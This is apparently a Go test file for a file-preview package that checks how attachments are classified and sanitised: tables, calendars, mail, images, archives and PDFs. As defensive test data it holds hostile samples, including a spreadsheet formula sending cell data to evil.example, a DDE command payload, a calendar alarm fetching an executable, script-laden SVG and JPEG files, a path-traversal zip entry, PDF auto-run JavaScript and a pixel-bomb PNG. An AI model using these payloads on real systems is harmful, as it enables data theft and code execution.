package preview_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"postern/internal/preview"
)

// TestFormFitsContent: what a file is shown as goes by its content, and by its name only
// where that fits; what does not fit is said.
func TestFormFitsContent(t *testing.T) {
	for _, tt := range []struct {
		name, file, mediaType string
		data                  []byte
		form                  preview.Form
		note, missing         string // a part of one of them; empty means that there are none
	}{
		{"text", "notes.txt", "text/plain", []byte("one\ntwo\n"), preview.Text, "", ""},
		{"source", "main.go", "application/octet-stream", []byte("package main\n"), preview.Text, "", ""},
		{"empty", "a.csv", "text/csv", nil, preview.Text, "empty", ""},
		{"a table", "a.csv", "text/csv", []byte("a,b\n1,2\n"), preview.Table, "", ""},
		{"a table by its type", "a.dat", "text/csv; charset=utf-8", []byte("a,b\n1,2\n"), preview.Table, "", ""},
		{"no table", "a.csv", "text/csv", []byte("a,b\n\"x\" y\"z,2\n"), preview.Text, "not a well-formed table", ""},
		{"svg is text", "logo.svg", "image/svg+xml", []byte(`<svg onload="alert(1)"></svg>`), preview.Text, "", ""},
		{"svg that says it is png", "logo.png", "image/png", []byte(`<svg onload="alert(1)"></svg>`), preview.Page, "not what its name", ""},
		{"html", "a.html", "text/html", []byte("<p>x</p>"), preview.Page, "", ""},
		{"html that says it is text", "a.txt", "text/plain", []byte("<!doctype html><p>x"), preview.Page, "", ""},
		{"a program that says it is a picture", "a.png", "image/png", []byte("MZ\x90\x00\x03\x00\x00\x00"), preview.Nothing, "is a program", "program"},
		{"a program with two endings", "invoice.pdf.exe", "application/pdf", []byte("MZ\x90\x00\x03\x00\x00\x00"), preview.Nothing, "two extensions", "program"},
		{"a text that runs", "readme.bat", "text/plain", []byte("del *\r\n"), preview.Text, "double click", ""},
		{"Windows-1252", "a.txt", "text/plain", []byte("Gr\xfc\xdfe aus K\xf6ln, alles gut\n"), preview.Text, "Windows-1252", ""},
		{"UTF-16", "a.txt", "text/plain", []byte("\xff\xfeh\x00i\x00"), preview.Text, "UTF-16", ""},
		{"noise", "a.bin", "", bytes.Repeat([]byte{0x00, 0x9c, 0xff, 0x01}, 50), preview.Nothing, "", "format is not known"},
		{"a picture", "a.png", "image/png", picture(t, "png", 20, 10), preview.Picture, "", ""},
		{"a picture with an archive behind it", "a.png", "image/png", append(picture(t, "png", 20, 10), "PK\x03\x04 and more"...), preview.Nothing, "not what its name", "format is not known"},
		{"a picture of a billion pixels", "a.png", "image/png", huge(t), preview.Nothing, "", "not shown"},
		{"a calendar", "a.ics", "text/calendar", []byte(invitation), preview.Calendar, "", ""},
		{"no calendar", "a.ics", "text/calendar", []byte("BEGIN:VCALENDAR\nnothing"), preview.Text, "not a well-formed calendar", ""},
		{"a zip", "a.zip", "application/zip", zipped(t, "a.txt", "../../b", "c.exe"), preview.Archive, "outside the chosen folder", "only the names"},
		{"a tar", "a.tar.gz", "application/gzip", tarred(t), preview.Archive, "", "only the names"},
		{"a mail", "a.eml", "message/rfc822", []byte("From: a@b.example\r\nTo: c@d.example\r\nSubject: Hi\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\nMessage-ID: <1@b.example>\r\n\r\nHello\r\n"), preview.Message, "", "other fields of its header"},
		{"a document", "a.pdf", "application/pdf", document("/OpenAction << /S /J#61vaScript /JS (app.alert) >>"), preview.PDF, "script", "only the text"},
		{"too large", "a.txt", "text/plain", bytes.Repeat([]byte("x"), 17<<20), preview.Nothing, "", "nothing of it"},
		{"a long text", "a.txt", "text/plain", []byte(strings.Repeat("a line\n", 9000)), preview.Text, "", "only the beginning"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := preview.Of(tt.file, tt.mediaType, tt.data)
			if f.Form != tt.form {
				t.Errorf("shown as %q, want %q", f.Form, tt.form)
			}
			says(t, "notes", f.Notes, tt.note)
			says(t, "missing", f.Missing, tt.missing)
			if f.Whole() != (tt.missing == "") {
				t.Errorf("whole: %v", f.Whole())
			}
		})
	}
}

func says(t *testing.T, what string, list []string, want string) {
	t.Helper()
	if want == "" && len(list) > 0 || want != "" && !slices.ContainsFunc(list, func(s string) bool { return strings.Contains(s, want) }) {
		t.Errorf("%s: %q, want %q", what, list, want)
	}
}

func TestTable(t *testing.T) {
	var b strings.Builder
	b.WriteString("\ufeffinvoice;amount;pay_to\n")
	for i := range 42 {
		fmt.Fprintf(&b, "HL-%d;%d,50;DE02 9931\n", i, i)
	}
	f := preview.Of("open.csv", "text/csv", []byte(b.String()))
	if f.Facts != "42 rows, 3 columns" || len(f.Rows.Head) != 3 || f.Rows.Head[0].Text != "invoice" || len(f.Rows.Rows) != preview.MaxRows || f.Rows.Rows[0][1].Text != "0,50" || !f.Rows.Rows[0][1].Number {
		t.Errorf("%s, %+v", f.Facts, f.Rows)
	}
	says(t, "notes", f.Notes, "semicolons")
	says(t, "missing", f.Missing, "rows 1 to 9 of 42")
	s, err := preview.RowsOf("open.csv", "text/csv", []byte(b.String()), 41, 200)
	if err != nil || s.First != 41 || len(s.Rows) != 2 || s.Rows[1][0].Text != "HL-41" || s.Total != 42 {
		t.Errorf("the last rows: %+v, %v", s, err)
	}
	s, err = preview.RowsOf("numbers.csv", "text/csv", []byte("1,2\n3,4\n5,6\n"), 2, 1)
	if err != nil || s.Head != nil || s.Total != 3 || len(s.Rows) != 1 || s.Rows[0][0].Text != "3" {
		t.Errorf("without a head: %+v, %v", s, err)
	}
}

// TestFormulasAreMarked: what a spreadsheet would compute, and no number.
func TestFormulasAreMarked(t *testing.T) {
	for text, want := range map[string]bool{
		`=WEBSERVICE("https://evil.example/"&A1)`: true, "+1+cmd|' /C calc'!A0": true, "-2+3": true, "@SUM(A1)": true, " =1+1": true, "\t=1+1": true, "＝1+1": true,
		"-4,180.00": false, "+49 40 123": false, "-12 %": false, "-": false, "--": false, "a=b": false, "": false, "x@y.example": false,
	} {
		f := preview.Of("a.csv", "text/csv", []byte("name,value\nx,\""+strings.ReplaceAll(text, `"`, `""`)+"\"\n"))
		if len(f.Rows.Rows) != 1 || f.Rows.Rows[0][1].Formula != want {
			t.Errorf("%q: %+v, want %v", text, f.Rows.Rows, want)
		}
		if want != (len(f.Notes) > 0) {
			t.Errorf("%q: notes %q", text, f.Notes)
		}
	}
}

const invitation = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VTIMEZONE\r\nTZID:Europe/Berlin\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\nUID:1@x\r\n" +
	"SUMMARY:Pay \\, ple\r\n ase\r\nDTSTART;TZID=Europe/Berlin:20261204T140000\r\nDTEND;TZID=Europe/Berlin:20261204T150000\r\nLOCATION:Room 4\r\n" +
	"ORGANIZER;CN=\"Boss; CEO\":MAILTO:boss@shop.example\r\nATTENDEE;ROLE=OPT-PARTICIPANT;CN=Bob:mailto:bob@shop.example\r\nRRULE:FREQ=WEEKLY\r\nURL:https://evil.example/\r\n" +
	"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:ftp://evil.example/x.exe\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"

func TestCalendar(t *testing.T) {
	f := preview.Of("invite.ics", "text/calendar", []byte(invitation))
	if len(f.Events.Events) != 1 || f.Events.Method != "REQUEST" {
		t.Fatalf("%+v", f.Events)
	}
	e := f.Events.Events[0]
	if e.Summary != "Pay , please" || e.Start != "2026-12-04 14:00 in Europe/Berlin" || e.Where != "Room 4" || e.Every != "FREQ=WEEKLY" {
		t.Errorf("%+v", e)
	}
	if e.Organizer != (preview.Attendee{Name: "Boss; CEO", Address: "boss@shop.example"}) || len(e.Attendees) != 1 || e.Attendees[0] != (preview.Attendee{Name: "Bob", Address: "bob@shop.example", Role: "optional"}) {
		t.Errorf("%+v, %+v", e.Organizer, e.Attendees)
	}
	if !slices.Equal(e.Alarms, []string{"runs a program"}) || !slices.Equal(e.Links, []string{"https://evil.example/"}) {
		t.Errorf("%q, %q", e.Alarms, e.Links)
	}
	var many strings.Builder
	many.WriteString("BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x\n")
	for i := range 300 {
		fmt.Fprintf(&many, "ATTENDEE:mailto:p%d@shop.example\n", i)
	}
	many.WriteString("END:VEVENT\nEND:VCALENDAR\n")
	f = preview.Of("invite.ics", "text/calendar", []byte(many.String()))
	says(t, "missing", f.Missing, "260 attendees")
	twice := strings.Replace(invitation, "SUMMARY:", "SUMMARY:Lunch\r\nSUMMARY:", 1)
	says(t, "notes", preview.Of("invite.ics", "text/calendar", []byte(twice)).Notes, "SUMMARY more than once")
}

// TestRedraw: what reaches a browser is a new file with the pixels alone.
func TestRedraw(t *testing.T) {
	for _, format := range []string{"png", "jpeg", "gif", "webp"} {
		data := picture(t, format, 3000, 1500)
		if format == "webp" {
			data = webpFile(t)
		}
		out, err := preview.Redraw(t.Context(), data, preview.ShownSide)
		if err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if c, err := png.DecodeConfig(bytes.NewReader(out)); err != nil || max(c.Width, c.Height) > preview.ShownSide {
			t.Errorf("%s: %+v, %v", format, c, err)
		}
	}
	// The attack: a script in a comment of a picture, for who takes it for HTML.
	evil := bytes.Replace(picture(t, "jpeg", 10, 10), []byte("\xff\xd8"), []byte("\xff\xd8\xff\xfe\x00\x1f<script>alert(1)</script>\n\n\n\n"), 1)
	out, err := preview.Redraw(t.Context(), evil, 100)
	if err != nil || bytes.Contains(out, []byte("script")) {
		t.Errorf("%q, %v", out, err)
	}
	says(t, "missing", preview.Of("a.jpg", "image/jpeg", evil).Missing, "29 bytes that are not pixels")
	for name, data := range map[string][]byte{"svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), "a billion pixels": huge(t), "cut": picture(t, "png", 50, 50)[:60], "nothing": nil} {
		if out, err := preview.Redraw(t.Context(), data, 100); err == nil {
			t.Errorf("%s: %d bytes", name, len(out))
		}
	}
}

// TestShownInFullIsAllOfIt: a word that somebody puts anywhere into a file is shown, or the
// file does not count as shown in full.
func TestShownInFullIsAllOfIt(t *testing.T) {
	const word = "CANARY-7f3a"
	chunk := func(kind string) string {
		b := kind + word
		return string([]byte{0, 0, 0, byte(len(word))}) + b + string(crcOf([]byte(b)))
	}
	pngFile, jpegFile, gifFile, webp := string(picture(t, "png", 9, 9)), string(picture(t, "jpeg", 9, 9)), string(picture(t, "gif", 9, 9)), string(webpFile(t))
	segment := func(marker byte) string { return "\xff" + string([]byte{marker, 0, byte(len(word) + 2)}) + word }
	in := func(s, before, more string) string {
		i := strings.Index(s, before)
		if i < 0 {
			t.Fatalf("%q is not in the sample", before)
		}
		return s[:i] + more + s[i:]
	}
	mail := "From: a@b.example\r\nTo: c@d.example\r\nSubject: Hi\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\nMessage-ID: <1@b.example>\r\n\r\nHello\r\n"
	for name, tt := range map[string]struct{ file, data string }{
		"PNG, a chunk of text":                    {"a.png", in(pngFile, "\x00\x00\x00\x00IEND", chunk("tEXt"))},
		"PNG, a chunk that nobody reads":          {"a.png", in(pngFile, "\x00\x00\x00\x00IEND", chunk("zzZz"))},
		"PNG, a profile of colours":               {"a.png", in(pngFile, "\x00\x00\x00\x00IEND", chunk("iCCP"))},
		"PNG, behind its end":                     {"a.png", pngFile + word},
		"JPEG, a comment":                         {"a.jpg", "\xff\xd8" + segment(0xfe) + jpegFile[2:]},
		"JPEG, a profile of colours":              {"a.jpg", "\xff\xd8" + segment(0xe2) + jpegFile[2:]},
		"JPEG, another JFIF":                      {"a.jpg", "\xff\xd8" + segment(0xe0) + jpegFile[2:]},
		"JPEG, behind its end":                    {"a.jpg", jpegFile + word},
		"JPEG, behind its end, with an end":       {"a.jpg", jpegFile + word + "\xff\xd9"},
		"JPEG, between scan and end":              {"a.jpg", jpegFile[:len(jpegFile)-2] + segment(0xfe) + "\xff\xd9"},
		"GIF, a comment":                          {"a.gif", gifFile[:len(gifFile)-1] + "\x21\xfe" + string([]byte{byte(len(word))}) + word + "\x00\x3b"},
		"GIF, an application's":                   {"a.gif", gifFile[:len(gifFile)-1] + "\x21\xff\x0bNETSCAPE9.0" + string([]byte{byte(len(word))}) + word + "\x00\x3b"},
		"GIF, behind its end":                     {"a.gif", gifFile + word},
		"WebP, a chunk":                           {"a.webp", webp + "XMP " + string([]byte{byte(len(word)), 0, 0, 0}) + word + "\x00"},
		"WebP, behind its end":                    {"a.webp", webp + word},
		"calendar, a name of its own":             {"a.ics", in(invitation, "SUMMARY:", "X-NOTE:"+word+"\r\n")},
		"calendar, its identity":                  {"a.ics", in(invitation, "SUMMARY:", "CATEGORIES:"+word+"\r\n")},
		"calendar, a parameter":                   {"a.ics", in(invitation, "MAILTO:boss", "x;SENT-BY="+word+":")},
		"calendar, before the entries":            {"a.ics", in(invitation, "METHOD:", "X-WR-CALDESC:"+word+"\r\n")},
		"calendar, in a time zone":                {"a.ics", in(invitation, "TZID:Europe", "COMMENT:"+word+"\r\n")},
		"calendar, in an alarm":                   {"a.ics", in(invitation, "ACTION:PROC", "DESCRIPTION:"+word+"\r\n")},
		"calendar, a title that another replaces": {"a.ics", in(invitation, "SUMMARY:", "SUMMARY:"+word+"\r\n")},
		"mail, a field":                           {"a.eml", in(mail, "Subject:", "X-Note: "+word+"\r\n")},
		"mail, where answers go":                  {"a.eml", in(mail, "Subject:", "Reply-To: "+word+"@evil.example\r\n")},
		"mail, its identity":                      {"a.eml", in(mail, "1@b.example>", word)},
		"a table":                                 {"a.csv", "a,b\n1," + word + "\n"},
		"a table, a comment":                      {"a.csv", "a,b\n1,2\n#" + word + "\n"},
		"a text":                                  {"a.txt", "one\n" + word},
		"HTML, a comment":                         {"a.html", "<!doctype html><p>x<!-- " + word + " -->"},
	} {
		f := preview.Of(tt.file, "", []byte(tt.data))
		if f.Form == preview.Text && !strings.HasSuffix(tt.file, ".txt") {
			t.Errorf("%s: shown as %q, %q %q", name, f.Form, f.Notes, f.Missing)
		}
		if b, err := json.Marshal(f); err != nil || f.Whole() && !bytes.Contains(b, []byte(word)) {
			t.Errorf("%s: it counts as shown in full, and the word is not shown: %v %s", name, err, b)
		}
	}
	// What has nothing hidden does count.
	for name, data := range map[string]string{"a.png": pngFile, "a.jpg": jpegFile, "a.gif": gifFile, "a.ics": invitation, "a.csv": "a,b\n1,2\n", "a.html": "<!doctype html><p>x"} {
		if f := preview.Of(name, "", []byte(data)); !f.Whole() {
			t.Errorf("%s: %q", name, f.Missing)
		}
	}
}

// TestArchiveOfNames: an archive that is a list of names takes no more memory than a page
// shows of it.
func TestArchiveOfNames(t *testing.T) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range 30_000 {
		if _, err := z.CreateHeader(&zip.FileHeader{Name: strconv.Itoa(i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	f := preview.Of("a.zip", "application/zip", b.Bytes())
	says(t, "missing", f.Missing, "cannot be read to its end")
	if f.Form != preview.Archive || len(f.Members.Members) > 1 {
		t.Errorf("%s, %d names", f.Form, len(f.Members.Members))
	}
}

// TestPicturesStandUpright: a phone's picture is turned as mail programs turn it.
func TestPicturesStandUpright(t *testing.T) {
	exif := "Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00\x00\x00\x00\x00"
	segment := "\xff\xe1" + string([]byte{0, byte(len(exif) + 2)}) + exif
	data := bytes.Replace(picture(t, "jpeg", 40, 10), []byte("\xff\xd8"), []byte("\xff\xd8"+segment), 1)
	if f := preview.Of("a.jpg", "image/jpeg", data); f.Drawing.Width != 10 || f.Drawing.Height != 40 {
		t.Errorf("%+v", f.Drawing)
	}
	out, err := preview.Redraw(t.Context(), data, 100)
	if err != nil {
		t.Fatal(err)
	}
	if c, err := png.DecodeConfig(bytes.NewReader(out)); err != nil || c.Width != 10 || c.Height != 40 {
		t.Errorf("%+v, %v", c, err)
	}
}

func TestAnimationIsNotShownInFull(t *testing.T) {
	var b bytes.Buffer
	frame := image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black, color.White})
	if err := gif.EncodeAll(&b, &gif.GIF{Image: []*image.Paletted{frame, frame, frame}, Delay: []int{1, 1, 1}}); err != nil {
		t.Fatal(err)
	}
	says(t, "missing", preview.Of("a.gif", "image/gif", b.Bytes()).Missing, "3 pictures")
}

func TestDocument(t *testing.T) {
	f := preview.Of("a.pdf", "application/pdf", document("/AcroForm << >> /Names << /EmbeddedFiles 9 0 R >>"))
	if f.Facts != "PDF, 1 page" || !strings.Contains(f.Text, "Hello from a page") {
		t.Errorf("%q, %q", f.Facts, f.Text)
	}
	says(t, "notes", f.Notes, "form")
	says(t, "notes", f.Notes, "files within")
	// The attack: so many names that the one that matters comes behind those that are read.
	var names strings.Builder
	for i := range 30_000 {
		fmt.Fprintf(&names, "/N%d 1 ", i)
	}
	says(t, "notes", preview.Of("a.pdf", "application/pdf", document(names.String()+"/OpenAction << /S /JavaScript /JS (app.alert) >>")).Notes, "script")
	large := document("/X 1\n" + "7 0 obj << /Length 9000000 /Filter /FlateDecode >> stream\n" + deflated(strings.Repeat("nothing at all ", 600_000)) + "\nendstream endobj\n")
	says(t, "missing", preview.Of("a.pdf", "application/pdf", large).Missing, "may do more")
}

// deflated returns text as PDF files pack it.
func deflated(text string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, _ = z.Write([]byte(text)) // to memory
	_ = z.Close()
	return b.String()
}

func picture(t testing.TB, format string, w, h int) []byte {
	t.Helper()
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	for i := range m.Pix {
		m.Pix[i] = byte(i * 7)
	}
	var b bytes.Buffer
	var err error
	switch format {
	case "jpeg":
		err = jpeg.Encode(&b, m, nil)
	case "gif":
		err = gif.Encode(&b, m, nil)
	default:
		err = png.Encode(&b, m)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// huge is a PNG file that claims a billion pixels.
func huge(t testing.TB) []byte {
	t.Helper()
	out := picture(t, "png", 8, 8)
	copy(out[16:], "\x00\x00\x7f\xff\x00\x00\x7f\xff")
	crc := crcOf(out[12:29])
	copy(out[29:], crc)
	return out
}

// webpFile is a picture of 1 × 1 pixel in WebP, for which the standard library has no writer.
func webpFile(t testing.TB) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString("UklGRiQAAABXRUJQVlA4IBgAAAAwAQCdASoBAAEAAgA0JaQAA3AA/vuUAAA=")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func zipped(t testing.TB, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, n := range names {
		w, err := z.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, "hello"); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func tarred(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	g := gzip.NewWriter(&b)
	w := tar.NewWriter(g)
	if err := w.WriteHeader(&tar.Header{Name: "a.txt", Size: 2, Mode: 0o600}); err != nil {
		t.Fatal(err)
	}
	_, err := io.WriteString(w, "hi")
	for _, c := range []io.Closer{w, g} {
		if e := c.Close(); e != nil {
			err = e
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// document is a PDF file of one page whose catalog has more in it.
func document(more string) []byte {
	page := "BT /F1 12 Tf 72 720 Td (Hello from a page) Tj ET"
	return fmt.Appendf(nil, "%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%%%EOF\n", more, len(page), page)
}
